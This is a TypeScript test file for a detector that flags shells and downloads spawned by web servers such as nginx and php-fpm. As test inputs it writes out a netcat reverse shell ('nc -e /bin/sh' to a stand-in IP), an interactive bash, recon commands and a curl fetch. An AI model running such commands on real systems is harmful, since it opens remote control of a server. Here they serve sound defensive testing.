import assert from 'node:assert/strict';
import { it } from 'node:test';
import type { ProcessInfo } from '../../contract/process.ts';
import { aProcess, seen } from '../process-fixture.ts';
import warning from './web-shell.ts';

const nginx = aProcess({ pid: 50, name: 'nginx', executable: '/usr/sbin/nginx' });
const shell = aProcess({ pid: 60, name: 'sh', executable: '/bin/dash', parentPid: 50 });
const node = aProcess({ pid: 70, name: 'node', executable: '/usr/bin/node' });

function below(parentPid: number, executable: string, ...commandLine: string[]): string[] {
  const find = (pid: number): ProcessInfo | null =>
    [nginx, shell, node].find((one) => one.pid === pid) ?? null;
  const levels = seen(warning, { executable, commandLine, parentPid }, { find });
  return levels.map((text) => text.split(' ', 1)[0] ?? '');
}

it('is a shell of a web server that looks around, opens a way back or is typed into', () => {
  const lines = ['id; sleep 9', 'cd /tmp && /usr/bin/whoami', 'nc -e /bin/sh 192.0.2.1 4444'];
  for (const line of lines) assert.deepEqual(below(50, '/bin/dash', 'sh', '-c', line), ['danger']);
  assert.deepEqual(below(50, '/bin/bash', 'bash', '-i'), ['danger']);
  assert.deepEqual(below(50, '/usr/bin/whoami', 'whoami'), ['danger']);
  assert.deepEqual(below(60, '/usr/bin/nc', 'nc', '192.0.2.1', '4444'), ['danger']);
});

it('is what its parent has left behind in the unit of a web server, as others than root', () => {
  const orphan = (unit: string, ...commandLine: string[]) => {
    const part = { executable: `/bin/${commandLine[0]}`, commandLine, parentPid: 1, unit };
    return [part, { ...part, userId: 0 }].map((one) => seen(warning, one).length);
  };
  for (const unit of ['apache2.service', 'php8.2-fpm.service', 'php-fpm.service']) {
    assert.deepEqual(orphan(unit, 'bash', '-i'), [1, 0], unit);
    assert.deepEqual(orphan(unit, 'nc', '192.0.2.1', '4444'), [1, 0], unit);
    assert.deepEqual(orphan(unit, 'curl', 'http://192.0.2.1/x'), [0, 0], unit);
  }
  assert.deepEqual(orphan('shop.service', 'bash', '-i'), [0, 0]);
});

it('is worth a look where it fetches files', () => {
  assert.deepEqual(below(50, '/usr/bin/curl', 'curl', 'http://192.0.2.1/x'), ['caution']);
  assert.deepEqual(below(50, '/bin/dash', 'sh', '-c', 'wget -q x | cat'), ['caution']);
});

it('is no other command of a web server, nor the same of anybody else', () => {
  const ordinary = ['convert a.png b.jpg', '/usr/sbin/sendmail -t -i', 'gzip -c x > id', 'echo id'];
  for (const line of ordinary) assert.deepEqual(below(50, '/bin/dash', 'sh', '-c', line), []);
  assert.deepEqual(below(70, '/bin/dash', 'sh', '-c', 'id; whoami'), []);
  assert.deepEqual(below(1, '/usr/bin/curl', 'curl', 'http://192.0.2.1/x'), []);
  assert.deepEqual(below(50, '/usr/sbin/nginx', 'nginx: worker process'), []);
});
